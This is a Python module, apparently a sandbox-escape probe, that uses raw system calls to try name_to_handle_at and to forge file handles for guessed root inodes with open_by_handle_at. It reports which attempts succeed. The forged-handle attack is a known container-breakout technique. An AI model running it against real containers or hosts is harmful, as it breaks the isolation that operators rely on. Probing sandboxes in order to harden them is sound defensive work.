import ctypes
import os

SYSCALL = ctypes.CDLL(None, use_errno=True).syscall
SYSCALL.restype = ctypes.c_long
COLUMN = 0 if os.uname().machine == "x86_64" else 1


def call(numbers, *arguments):
    """Make a system call by its number on x86-64 and on aarch64."""
    words = [ctypes.c_long(one) if isinstance(one, int) else one for one in arguments]
    answer = SYSCALL(ctypes.c_long(numbers[COLUMN]), *words)
    if answer < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return answer


def first(action, items):
    """Tell whether an action works on any of the items."""
    for item in items:
        try:
            if action(item) is not False:
                return True
        except OSError:
            pass
    return False


NAME_TO_HANDLE, OPEN_BY_HANDLE = (303, 264), (304, 265)


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("body", ctypes.c_ubyte * 128)]


def handle_of(path):
    found, mount = Handle(size=128), ctypes.c_int()
    call(NAME_TO_HANDLE, -100, path.encode(), ctypes.byref(found), ctypes.byref(mount), 0)
    return found


def guessed(inode):
    """The root of most file systems is inode 2, or 128 (XFS), or 256 (btrfs)."""
    made = Handle(size=8, kind=1)
    made.body[0] = inode & 0xFF
    made.body[1] = inode >> 8
    return made


def open_handle(place, handle):
    fd = os.open(place, os.O_RDONLY)
    return call(OPEN_BY_HANDLE, fd, ctypes.byref(handle), 0)


PLACES = ("/", ".", os.path.dirname(os.path.abspath(__file__)), "/usr", os.__file__, "/dev/null")
ATTACKS = {
    "name": lambda facts: first(handle_of, PLACES),
    "open": lambda facts: first(
        lambda place: first(lambda inode: open_handle(place, guessed(inode)), (1, 2, 128, 256)),
        PLACES,
    ),
}


def handle(payload):
    facts, achieved = payload["facts"], []
    for name, attack in ATTACKS.items():
        try:
            if attack(facts) is not False:
                achieved.append(name)
        except OSError:
            pass
    return {"tried": list(ATTACKS), "achieved": achieved}
